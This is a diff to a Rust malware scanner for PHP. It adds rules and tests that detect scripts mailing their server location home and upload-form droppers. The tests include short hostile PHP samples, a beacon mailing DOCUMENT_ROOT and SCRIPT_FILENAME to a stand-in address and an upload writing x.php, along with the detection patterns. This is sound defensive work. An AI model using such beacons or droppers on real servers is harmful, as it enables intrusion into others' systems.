@@ -333,6 +333,9 @@ static SYSTEM_LINK: LazyLock<Regex> = LazyLock::new(|| {
         .expect("pattern compiles")
 });
 
+/// Where a file sits on the server: what a planted script mails home so the attacker finds it.
+const LOCATION_KEYS: [&[u8]; 4] = [b"SCRIPT_FILENAME", b"DOCUMENT_ROOT", b"PATH_TRANSLATED", b"SERVER_ADDR"];
+
 /// Everything a file shows of the families, one pass over the tokens.
 #[derive(Default)]
 struct Facts {
@@ -361,6 +364,8 @@ struct Facts {
     recon_shown: bool,
     /// `/etc/passwd` named in a literal.
     recon_literal_passwd: bool,
+    /// Which of `LOCATION_KEYS` are read (bits).
+    location_keys: u8,
     /// `ini_restore('safe_mode')`: undoes the host's hardening for this script.
     protection_restored: Option<usize>,
 }
@@ -437,6 +442,9 @@ fn facts(t: &[Token<'_>]) -> Facts {
                 }
                 if *v == b"_SERVER" && is_op(t.get(i + 1), b"[") {
                     let key = t.get(i + 2).and_then(|k| str_value(k).or_else(|| ident(k)));
+                    if let Some(k) = key.and_then(|k| LOCATION_KEYS.iter().position(|l| *l == k)) {
+                        f.location_keys |= 1 << k;
+                    }
                     if key.is_some_and(|k| k == b"HTTP_USER_AGENT" || k == b"HTTP_REFERER") && f.user_agent.is_none() {
                         f.user_agent = Some(tok.at);
                     }
@@ -444,6 +452,14 @@ fn facts(t: &[Token<'_>]) -> Facts {
             }
             Tok::Str { value, vars, .. } => {
                 literal_facts(&mut f, value, tok.at, &mut recon_seen);
+                if vars.contains(&&b"_SERVER"[..]) && value.len() <= 4096 {
+                    // `"$_SERVER[DOCUMENT_ROOT]"`: the key stays in the text.
+                    for (k, key) in LOCATION_KEYS.iter().enumerate() {
+                        if memchr::memmem::find(value, key).is_some() {
+                            f.location_keys |= 1 << k;
+                        }
+                    }
+                }
                 if i >= 2 && !f.recon_shown && RECON_SETTINGS.contains(&value.as_slice()) {
                     let getter = ident(&t[i - 2])
                         .is_some_and(|n| n.eq_ignore_ascii_case(b"ini_get") || n.eq_ignore_ascii_case(b"get_cfg_var"));
@@ -676,6 +692,13 @@ pub fn analyze(text: &[u8], t: &[Token<'_>], o: Options) -> Vec<Shape> {
         add(Why::NetworkFromInput, if o.small { Danger::High } else { Danger::Medium }, at);
     }
 
+    // A beacon: the file's place on the server mailed to someone.
+    if f.location_keys.count_ones() >= 2
+        && let Some(at) = f.at(F::Mail)
+    {
+        add(Why::ReportsItsLocation, Danger::High, at);
+    }
+
     // Phishing: form fields with passwords or cards, labelled, then mailed or saved.
     if let Some(at) = f.secret_line
         && f.credential_lines >= 2
@@ -765,6 +788,8 @@ fn form_field_to_sink(text: &[u8], t: &[Token<'_>]) -> Option<(Why, usize)> {
         let Tok::Ident(n) = tok.tok else { continue };
         let why = if classify(n) == Some(F::Shell) {
             Why::ShellFromInput
+        } else if n.eq_ignore_ascii_case(b"move_uploaded_file") || n.eq_ignore_ascii_case(b"copy") {
+            Why::UploadDropper
         } else if n.eq_ignore_ascii_case(b"eval") || n.eq_ignore_ascii_case(b"assert") {
             Why::CodeFromInput
         } else {
@@ -937,6 +962,16 @@ mod tests {
                 include_str!("../../tests/fixtures/sweep/malicious/form_field_register_globals_shell.php"),
                 Why::ShellFromInput,
             ),
+            (
+                "upload_form_field_copy.php",
+                include_str!("../../tests/fixtures/sweep/malicious/upload_form_field_copy.php"),
+                Why::UploadDropper,
+            ),
+            (
+                "location_beacon_mail.php",
+                include_str!("../../tests/fixtures/sweep/malicious/location_beacon_mail.php"),
+                Why::ReportsItsLocation,
+            ),
         ];
         for (name, text, why) in cases {
             let hits = crate::sweep::detect::judge(&format!("lib/{name}"), name, text.as_bytes(), &[]);
@@ -1108,6 +1143,8 @@ mod tests {
         assert_eq!(found(shell), [Why::ShellFromInput]);
         let code = "<?php echo '<textarea name=\"php\"></textarea>'; if (isset($php)) { eval($php); }";
         assert_eq!(found(code), [Why::CodeFromInput]);
+        let upload = "<input type=file name=f><?php move_uploaded_file($f, 'x.php');";
+        assert_eq!(found(upload), [Why::UploadDropper]);
     }
 
     #[test]
@@ -1117,6 +1154,24 @@ mod tests {
         assert!(found(page).is_empty());
         let method = "<input name='q'><?php $db->exec($q);";
         assert!(found(method).is_empty());
+    }
+
+    #[test]
+    fn location_beacons_are_found() {
+        let beacon =
+            "<?php $m = \"$_SERVER[DOCUMENT_ROOT]\" . $_SERVER['SCRIPT_FILENAME']; mail('x@example.net', 'up', $m);";
+        assert_eq!(found(beacon), [Why::ReportsItsLocation]);
+    }
+
+    #[test]
+    fn error_mails_naming_the_page_are_quiet() {
+        let report =
+            "<?php $m = 'Error on ' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']; mail($admin, 'error', $m);";
+        assert!(found(report).is_empty());
+        // A path read for the site's own use, no mail.
+        assert!(
+            found("<?php $a = $_SERVER['DOCUMENT_ROOT']; $b = $_SERVER['SCRIPT_FILENAME']; mailer_log($a);").is_empty()
+        );
     }
 
     #[test]
